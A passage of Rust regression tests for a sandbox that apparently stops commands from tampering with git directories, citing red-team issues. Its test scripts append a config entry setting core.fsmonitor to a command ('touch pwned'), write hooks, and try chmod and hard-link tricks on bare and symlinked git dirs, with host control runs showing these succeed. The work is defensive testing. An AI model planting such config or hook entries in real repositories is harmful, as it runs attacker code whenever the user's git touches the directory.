    let has_fchmodat2 = !out.run.stdout.contains("Function not implemented");
    if has_fchmodat2 {
        out.assert_output_contains("fchmodat2 r=0 errno=- set-id=1");
    }
    let fx = Fixture::without_git();
    let prog = fx.script("set_id_fd.py", PROG);
    let records = fx.records();
    let out = fx
        .attack(&records.opts(), &format!("{py} {}", sh_quote(&prog)))
        .outcome();
    out.assert_ok()
        .assert_output_contains("fchmod r=-1 errno=Operation not permitted set-id=0")
        .assert_lacks("set-id=1");
    let paths: Vec<String> = records
        .violations()
        .into_iter()
        .filter(|v| v.to_string().contains("set-group-ID"))
        .map(|v| {
            v.get("path")
                .and_then(|p| p.as_str())
                .unwrap_or("(none)")
                .to_owned()
        })
        .collect();
    let want = if has_fchmodat2 { 2 } else { 1 };
    assert_eq!(
        paths,
        vec!["(a descriptor)".to_owned(); want],
        "the set-ID refusals do not name the descriptor\n{}",
        out.run.describe()
    );
}

/// A bare repository made during the run: `git init --bare d` writes `d/config` while `d` is
/// still a plain directory (before `d/HEAD`), so it was left writable (0644) and git, the
/// host's included, read whatever was appended to it as the repository's config until the
/// sweep replaced it after the run. The creation that makes a directory a git dir now turns
/// its configs into fresh read-only copies first: an append fails, and a descriptor opened
/// for writing before (`exec 3>>e/config`, then `HEAD` made) writes into the old copy, not
/// the config git reads. The control appends on the host; `git config` of an inert key and a
/// push into the repository still work inside.
#[test]
fn config_of_a_directory_made_a_git_dir_is_read_only_during_the_run() {
    if attacks::not_applicable(&attacks::na::NO_CREATION_GUARD) {
        return;
    }
    let evil = r"printf '[core]\n\tfsmonitor = touch pwned\n'";
    for (setup, attack, config) in [
        (
            "git init -q --bare d".to_owned(),
            format!("{evil} >> d/config"),
            "d/config",
        ),
        (
            "mkdir -p e/objects e/refs && printf '[core]\\n\\tbare = true\\n' > e/config && exec 3>>e/config && echo 'ref: refs/heads/main' > e/HEAD".to_owned(),
            format!("{evil} >&3"),
            "e/config",
        ),
    ] {
        let script = format!(
            "{{ {setup}\n}} || exit {SETUP_FAILED}\n( {attack}\n)\nif grep -qi fsmonitor {config}; then echo {PRESENT}; fi\nexit 0"
        );
        let fx = Fixture::without_git();
        let out = fx.control(&script).outcome();
        out.assert_ok().assert_output_contains(PRESENT);
        let fx = Fixture::without_git();
        let out = fx.attack(&[], &script).outcome();
        assert_ne!(
            out.ran(),
            SETUP_FAILED,
            "the setup failed inside\n{}",
            out.run.describe()
        );
        out.assert_ok().assert_lacks(PRESENT);
    }
    // What git does with a bare repository made during the run still works.
    let fx = Fixture::without_git();
    works(
        &fx,
        &format!(
            "git -c init.defaultBranch=main init -q --bare d && git -C d config user.name bob && git -c init.defaultBranch=main init -q w && cd w && echo a > a && git add a && git {ID} commit -qm1 && git push -q ../d main && git -C ../d log --format=%s && git -C ../d config user.name"
        ),
    )
    .assert_shows("1\nbob\n");
}

/// A bare repository made during the run whose `HEAD` is moved out (it is a plain directory
/// then, so its config may be made writable again) and back (red team issue 32,
/// head-toggle.sh): the rename that completes the git dir again turns the config into a
/// fresh read-only copy, as the creation of `HEAD` does, so the append after it fails. The
/// control runs the same script on the host, where the code reaches the config.
#[test]
fn moving_head_out_and_back_does_not_leave_a_writable_config() {
    if attacks::not_applicable(&attacks::na::NO_CREATION_GUARD) {
        return;
    }
    let script = format!(
        "{FRESH} --bare d || exit {SETUP_FAILED}\nmv d/HEAD d/HEAD.off && chmod 644 d/config && mv d/HEAD.off d/HEAD || exit {SETUP_FAILED}\n( {EVIL_CONFIG} >> d/config\n)\nif grep -qi fsmonitor d/config; then echo {PRESENT}; fi\nexit 0"
    );
    let fx = Fixture::without_git();
    fx.control(&script)
        .outcome()
        .assert_ok()
        .assert_output_contains(PRESENT);
    let fx = Fixture::without_git();
    let out = fx.attack(&[], &script).outcome();
    assert_ne!(
        out.ran(),
        SETUP_FAILED,
        "the setup failed inside\n{}",
        out.run.describe()
    );
    out.assert_ok().assert_lacks(PRESENT);
}

/// A git dir whose `objects` and `refs` are symbolic links (`d/{HEAD, objects -> ../o, refs
/// -> ../r}`) is a git dir to git (its `is_git_directory` uses `access`, which follows
/// links; red team issue 32, symlinked-objects.sh): the guard's probe counted only
/// directories, so a config with code, a `chmod` and a hard link of it and a hook were made
/// during the run, and the host's git run in `d` while the run lasted ran the config's
/// fsmonitor. A link named `objects` or `refs` now counts as present. Each step is tried on
/// its own. Control: the same script on the host, where git takes `d` as a git dir and every
/// step works; inside, git takes it as a git dir too.
#[test]
fn a_git_dir_with_linked_objects_and_refs_is_a_git_dir_during_the_run() {
    if attacks::not_applicable(&attacks::na::NO_CREATION_GUARD) {
        return;
    }
    let script = format!(
        "mkdir -p o r/heads d && printf 'ref: refs/heads/main\\n' > d/HEAD && ln -s ../o d/objects && ln -s ../r d/refs || exit {SETUP_FAILED}\n\
         ( {EVIL_CONFIG} > d/config\n)\nif grep -qi fsmonitor d/config; then echo CODE-{PRESENT}; fi\n\
         chmod 666 d/config && echo CHMOD-{PRESENT}\n\
         ln d/config keep && echo LINK-{PRESENT}\n\
         mkdir -p d/hooks && ( {HOOK} > d/hooks/post-checkout\n) && echo HOOK-{PRESENT}\n\
         git --git-dir=d rev-parse --git-dir >/dev/null 2>&1 && echo GIT-DIR-OK\nexit 0"
    );
    let fx = Fixture::without_git();
    let control = fx.control(&script).outcome();
    control.assert_ok().assert_output_contains("GIT-DIR-OK");
    for step in ["CODE", "CHMOD", "LINK", "HOOK"] {
        control.assert_output_contains(&format!("{step}-{PRESENT}"));
    }
    let fx = Fixture::without_git();
    let out = fx.attack(&[], &script).outcome();
    assert_ne!(
        out.ran(),
        SETUP_FAILED,
        "the setup failed inside\n{}",
        out.run.describe()
    );
    out.assert_ok()
        .assert_output_contains("GIT-DIR-OK")
        .assert_lacks(PRESENT);
}
